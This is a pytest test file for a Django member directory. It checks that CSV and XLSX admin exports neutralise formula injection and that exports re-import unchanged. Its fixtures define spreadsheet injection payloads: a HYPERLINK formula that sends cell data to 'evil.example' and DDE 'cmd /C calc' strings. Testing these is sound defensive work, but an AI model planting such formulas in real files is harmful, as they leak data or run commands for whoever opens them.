"""The member directory's admin export (django-import-export) never hands a spreadsheet a
formula someone typed, and our own export re-imports unchanged."""

import csv
import io

import openpyxl
import pytest

from registrations.models import ContactPerson, MemberOrganisation
from tests.factories import ContactPersonFactory, MemberOrganisationFactory
from tests.registrations.test_import import CSV_FORMAT, XLSX_FORMAT, _confirm, _export, _preview

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CMD = "+cmd|' /C calc'!A0"


@pytest.fixture
def typed():
    organisation = MemberOrganisationFactory(name=HYPERLINK, email_domains="evil.example")
    ContactPersonFactory(
        organisation=organisation,
        email="anna@evil.example",
        academic_title=CMD,
        first_name=SUM,
        last_name=HYPERLINK,
        function=CMD,
    )
    return organisation


def rows_of(response, fmt) -> list[list]:
    if fmt == CSV_FORMAT:
        text = response.content.decode("utf-8-sig")
        delimiter = ";" if ";" in text.splitlines()[0] else ","  # German Excel's ; by default
        return list(csv.reader(io.StringIO(text), delimiter=delimiter))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # stored as text, never as formula
    return [[cell for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
@pytest.mark.parametrize(
    ("model", "cells"),
    [
        (
            "contactperson",
            {
                "organisation": HYPERLINK,
                "academic_title": CMD,
                "first_name": SUM,
                "last_name": HYPERLINK,
                "function": CMD,
            },
        ),
        ("memberorganisation", {"name": HYPERLINK}),
    ],
)
def test_the_directory_export_neutralises_typed_formulas(staff_client, typed, model, cells, fmt):
    header, *rows = rows_of(_export(staff_client, model, fmt), fmt)

    [row] = [dict(zip(header, row, strict=True)) for row in rows]
    assert {name: row[name] for name in cells} == {
        name: "'" + value for name, value in cells.items()
    }
    assert not [v for v in row.values() if isinstance(v, str) and v.startswith(tuple("=+-@"))]


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
@pytest.mark.parametrize("model", ["memberorganisation", "contactperson"])
def test_the_own_export_reimports_unchanged(staff_client, typed, model, fmt):
    before = list(ContactPerson.objects.values()) + list(MemberOrganisation.objects.values())
    exported = _export(staff_client, model, fmt).content

    preview = _preview(staff_client, model, exported, fmt=fmt)

    assert not preview.context["result"].has_validation_errors()
    assert not preview.context["result"].has_errors()
    assert preview.context["result"].totals["skip"] == 1
    _confirm(staff_client, model, preview)
    after = list(ContactPerson.objects.values()) + list(MemberOrganisation.objects.values())
    assert after == before
    assert ContactPerson.objects.get().last_name == HYPERLINK
